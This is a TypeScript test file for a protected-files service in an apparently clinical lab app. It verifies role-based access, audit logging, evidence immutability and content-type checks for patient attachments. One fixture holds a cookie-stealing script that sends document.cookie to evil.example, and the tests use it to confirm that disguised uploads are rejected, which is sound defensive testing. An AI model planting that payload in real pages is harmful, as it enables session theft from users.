/**
 * Files of patient data (issue 43, items 6, 7, 8), from the refused side: an order's
 * attachments (the signed ABN's scan) and a result's report are reached only through the
 * protected-files function. Staff and the provider's order delegate add and read an order's
 * attachment; a results-only delegate, another provider's delegate, a user with no role and
 * the anonymous key do neither. Nobody reaches the buckets through Storage itself (upload,
 * download, a signed link of any length). Once the order is past draft its attachment is
 * evidence: never replaced, only added to. Bytes are checked against what they claim to be.
 * Every upload and download writes an audit row under the caller; a download also a
 * read_log row.
 */
import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { SAMPLE_PDF } from '../../supabase/functions/_shared/hl7/test-data.ts';
import { anonClient, serviceClient, signedInUser, userWithRole, type TestUser } from '../helpers/clients.ts';
import { SUPABASE_ANON_KEY, SUPABASE_SERVICE_ROLE_KEY, SUPABASE_URL } from '../helpers/env.ts';
import { organizationRow, providerRow, seedOne, seedRows } from './directory-helpers.ts';

const BUCKET = 'order-attachments';
const SCAN = new TextEncoder().encode('%PDF-1.4\n% signed ABN\n%%EOF\n');
const OTHER_SCAN = new TextEncoder().encode('%PDF-1.4\n% a different page\n%%EOF\n');
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
const SCRIPT = new TextEncoder().encode('<script>fetch("https://evil.example/" + document.cookie)</script>');

let staff: TestUser;
let orderDelegate: TestUser;
let resultsDelegate: TestUser;
let otherDelegate: TestUser;
let noRole: TestUser;
let providerLogin: TestUser;
let otherProviderLogin: TestUser;
let providerId: string;
let organizationId: string;
let patientId: string;
let draftId: string;
let resultedId: string;

const code = () => randomUUID().slice(0, 5).toUpperCase().replace(/[ILOU]/g, '7');

async function delegateOf(provider: string, type: 'order' | 'results', prefix: string): Promise<TestUser> {
  const user = await userWithRole('provider', prefix);
  await seedRows('provider_delegate_approvals', [{ id: randomUUID(), provider_id: provider, delegate_id: user.id, approval_type: type }]);
  return user;
}

async function providerUser(provider: string, prefix: string): Promise<TestUser> {
  const user = await userWithRole('provider', prefix);
  const { error } = await serviceClient().from('profiles').update({ provider_id: provider }).eq('id', user.id);
  if (error) throw error;
  return user;
}

async function order(status: string): Promise<string> {
  const id = randomUUID();
  const { error } = await serviceClient().from('orders').insert({
    id, requisition_number: `R-${code()}-0001`, status, organization_id: organizationId, provider_id: providerId, patient_id: patientId, billing: 'client',
    tests: [{ code: 'GLU', cpt_codes: ['82947'] }],
  });
  if (error) throw error;
  return id;
}

async function tokenOf(user: TestUser | 'service' | null): Promise<string> {
  if (!user) return SUPABASE_ANON_KEY;
  if (user === 'service') return SUPABASE_SERVICE_ROLE_KEY;
  const { data } = await user.client.auth.getSession();
  return data.session?.access_token ?? '';
}

/** Calls protected-files as `user` (null: the anonymous key): the status and the JSON body or the bytes. */
async function files(user: TestUser | 'service' | null, body: Record<string, unknown>): Promise<{ status: number; body: unknown; bytes: Uint8Array | null; headers: Headers }> {
  const response = await fetch(`${SUPABASE_URL}/functions/v1/protected-files`, {
    method: 'POST',
    headers: { apikey: SUPABASE_ANON_KEY, Authorization: `Bearer ${await tokenOf(user)}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  const type = response.headers.get('content-type') ?? '';
  if (type.startsWith('application/json')) return { status: response.status, body: await response.json(), bytes: null, headers: response.headers };
  return { status: response.status, body: null, bytes: new Uint8Array(await response.arrayBuffer()), headers: response.headers };
}

const upload = (user: TestUser | 'service' | null, path: string, bytes: Uint8Array = SCAN, type = 'application/pdf') =>
  files(user, { action: 'upload', path, content_type: type, data: Buffer.from(bytes).toString('base64') });
const download = (user: TestUser | 'service' | null, path: string, bucket = BUCKET) => files(user, { action: 'download', bucket, path });

async function storedBytes(path: string, bucket = BUCKET): Promise<Uint8Array | null> {
  const { data } = await serviceClient().storage.from(bucket).download(path);
  return data ? new Uint8Array(await data.arrayBuffer()) : null;
}

async function auditOf(rowId: string, action: string) {
  const { data, error } = await serviceClient().from('audit_log').select('action, changed_by, row_data').eq('row_id', rowId).eq('action', action).order('id');
  if (error) throw error;
  return data as Array<{ action: string; changed_by: string; row_data: Record<string, unknown> }>;
}

beforeAll(async () => {
  organizationId = await seedOne('organizations', organizationRow());
  providerId = await seedOne('providers', providerRow());
  const otherProvider = await seedOne('providers', providerRow());
  patientId = await seedOne('patients', {
    id: randomUUID(), lab_patient_id: `P-${code()}-0002`, first_name: 'Attach', last_name: 'Contract', date_of_birth: '1950-01-01', sex: 'female', coverages: [],
  });
  draftId = await order('draft');
  resultedId = await order('draft');
  [staff, orderDelegate, resultsDelegate, otherDelegate, noRole, providerLogin, otherProviderLogin] = await Promise.all([
    userWithRole('staff', 'files-staff'),
    delegateOf(providerId, 'order', 'files-order'),
    delegateOf(providerId, 'results', 'files-results'),
    delegateOf(otherProvider, 'order', 'files-other'),
    signedInUser('files-no-role'),
    providerUser(providerId, 'files-provider'),
    providerUser(otherProvider, 'files-other-provider'),
  ]);
});

describe('order attachments through protected-files', () => {
  it('staff and the provider’s order delegate add the signed ABN under the order and read it back, each step audited', async () => {
    expect(await upload(staff, `${draftId}/abn-signed.pdf`)).toMatchObject({ status: 200, body: { path: `${draftId}/abn-signed.pdf` } });
    expect((await upload(orderDelegate, `${draftId}/abn-signed-2.pdf`)).status).toBe(200);
    for (const user of [staff, orderDelegate, providerLogin]) {
      const answer = await download(user, `${draftId}/abn-signed.pdf`);
      expect(answer.status).toBe(200);
      expect(answer.bytes).toEqual(SCAN);
      expect(answer.headers.get('cache-control')).toBe('no-store');
    }
    const attached = await auditOf(draftId, 'attach');
    expect(attached.map((row) => [row.changed_by, row.row_data.path, row.row_data.patient_id])).toEqual([
      [staff.id, `${draftId}/abn-signed.pdf`, patientId],
      [orderDelegate.id, `${draftId}/abn-signed-2.pdf`, patientId],
    ]);
    expect((await auditOf(draftId, 'download')).map((row) => row.changed_by)).toEqual([staff.id, orderDelegate.id, providerLogin.id]);
    const { data: reads } = await serviceClient().from('read_log').select('read_by, via, table_name, row_ids, patient_ids').eq('via', 'download').contains('row_ids', [draftId]);
    expect(reads).toHaveLength(3);
    expect(reads?.[0]).toEqual({ read_by: staff.id, via: 'download', table_name: 'orders', row_ids: [draftId], patient_ids: [patientId] });
  });

  it.each([
    ['a results-only delegate', () => resultsDelegate],
    ['another provider’s delegate', () => otherDelegate],
    ['a user with no role', () => noRole],
  ])('%s neither adds nor reads one', async (_who, user) => {
    expect(await upload(user(), `${draftId}/forged.pdf`)).toMatchObject({ status: 403, body: { code: 'forbidden' } });
    expect(await download(user(), `${draftId}/abn-signed.pdf`)).toMatchObject({ status: 404, body: { code: 'not_found' } });
    expect(await storedBytes(`${draftId}/forged.pdf`)).toBeNull();
    // Asked directly, the database tells them nothing of the file, not even that it exists.
    const asked = await user().client.rpc('protected_file_access', { p_bucket: BUCKET, p_name: `${draftId}/abn-signed.pdf` });
    expect(asked.data).toEqual({ read: false, add: false, replace: false, exists: false, sha256: null });
  });

  it('refuses the anonymous and service keys (no user behind them), and a file under no order', async () => {
    for (const key of [null, 'service'] as const) {
      expect(await upload(key, `${draftId}/key.pdf`)).toMatchObject({ status: 401, body: { code: 'not_authenticated' } });
      expect(await download(key, `${draftId}/abn-signed.pdf`)).toMatchObject({ status: 401, body: { code: 'not_authenticated' } });
    }
    expect((await upload(staff, `${randomUUID()}/abn-signed.pdf`)).status).toBe(403);
    expect((await upload(staff, 'abn-signed.pdf')).status).toBe(400);
  });
});

describe('item 6: a signed ABN is evidence once the order is sent', () => {
  it('is never replaced on a resulted order (409, bytes kept), the same file sent again changes nothing, and a new file is added beside it', async () => {
    const path = `${resultedId}/abn-signed.pdf`;
    expect((await upload(orderDelegate, path)).status).toBe(200);
    expect((await upload(orderDelegate, path, OTHER_SCAN)).status).toBe(200); // still a draft: replaced
    await serviceClient().from('orders').update({ status: 'resulted' }).eq('id', resultedId);
    for (const user of [orderDelegate, staff]) {
      expect(await upload(user, path, SCAN)).toMatchObject({ status: 409, body: { code: 'already_attached' } });
    }
    expect(await storedBytes(path)).toEqual(OTHER_SCAN);
    expect(await upload(orderDelegate, path, OTHER_SCAN)).toMatchObject({ status: 200, body: { unchanged: true } });
    expect((await upload(orderDelegate, `${resultedId}/abn-signed-later.pdf`, SCAN)).status).toBe(200);
    expect((await auditOf(resultedId, 'attach')).map((row) => [row.row_data.path, row.row_data.replaced])).toEqual([
      [path, false],
      [path, true],
      [`${resultedId}/abn-signed-later.pdf`, false],
    ]);
  });
});

describe('item 7: no user reaches these buckets through Storage, so no user signs a link', () => {
  it.each([
    ['staff', () => staff],
    ['the order delegate', () => orderDelegate],
  ])('%s cannot upload, download or sign a link of ten years (or of a minute)', async (_who, user) => {
    const { client } = user();
    expect((await client.storage.from(BUCKET).upload(`${draftId}/direct.pdf`, SCAN, { contentType: 'application/pdf', upsert: true })).error).not.toBeNull();
    expect((await client.storage.from(BUCKET).download(`${draftId}/abn-signed.pdf`)).error).not.toBeNull();
    for (const seconds of [10 * 365 * 24 * 3600, 60]) {
      const signed = await client.storage.from(BUCKET).createSignedUrl(`${draftId}/abn-signed.pdf`, seconds);
      expect(signed.data).toBeNull();
      expect(signed.error).not.toBeNull();
    }
    expect(await storedBytes(`${draftId}/direct.pdf`)).toBeNull();
    expect((await anonClient().storage.from(BUCKET).download(`${draftId}/abn-signed.pdf`)).error).not.toBeNull();
  });
});

describe('item 8: bytes are what they claim to be', () => {
  it('refuses a script named image/png, and a PNG named a PDF (415), and stores nothing', async () => {
    expect(await upload(staff, `${draftId}/photo.png`, SCRIPT, 'image/png')).toMatchObject({
      status: 415, body: { code: 'not_a_document', error: 'The file is not a PDF, JPEG, PNG, HEIC or WebP document: its content does not match its type.' },
    });
    expect((await upload(staff, `${draftId}/scan.pdf`, PNG, 'application/pdf')).status).toBe(415);
    expect((await upload(staff, `${draftId}/page.html`, SCRIPT, 'text/html')).status).toBe(415);
    expect(await storedBytes(`${draftId}/photo.png`)).toBeNull();
    expect(await storedBytes(`${draftId}/scan.pdf`)).toBeNull();
    expect((await upload(staff, `${draftId}/photo.png`, PNG, 'image/png')).status).toBe(200);
  });
});

describe('result reports through protected-files', () => {
  it('open for the ordering provider and a results delegate, audited; not for another provider or an order-only delegate', async () => {
    const resultId = randomUUID();
    const path = `${resultedId}/${resultId}.pdf`;
    const stored = await serviceClient().storage.from('result-reports').upload(path, SAMPLE_PDF, { contentType: 'application/pdf' });
    expect(stored.error).toBeNull();
    await seedRows('results', [{
      id: resultId, order_id: resultedId, patient_id: patientId, provider_id: providerId, organization_id: organizationId,
      requisition_number: 'R-FILES-0001', test_code: 'GLU', status: 'final', report_path: path,
    }]);
    for (const user of [providerLogin, resultsDelegate, staff]) {
      const answer = await download(user, path, 'result-reports');
      expect(answer.status).toBe(200);
      expect(answer.bytes).toEqual(SAMPLE_PDF);
    }
    for (const user of [otherProviderLogin, orderDelegate, noRole]) expect((await download(user, path, 'result-reports')).status).toBe(404);
    expect((await providerLogin.client.storage.from('result-reports').download(path)).error).not.toBeNull();
    expect((await auditOf(resultId, 'download')).map((row) => row.changed_by)).toEqual([providerLogin.id, resultsDelegate.id, staff.id]);
  });
});
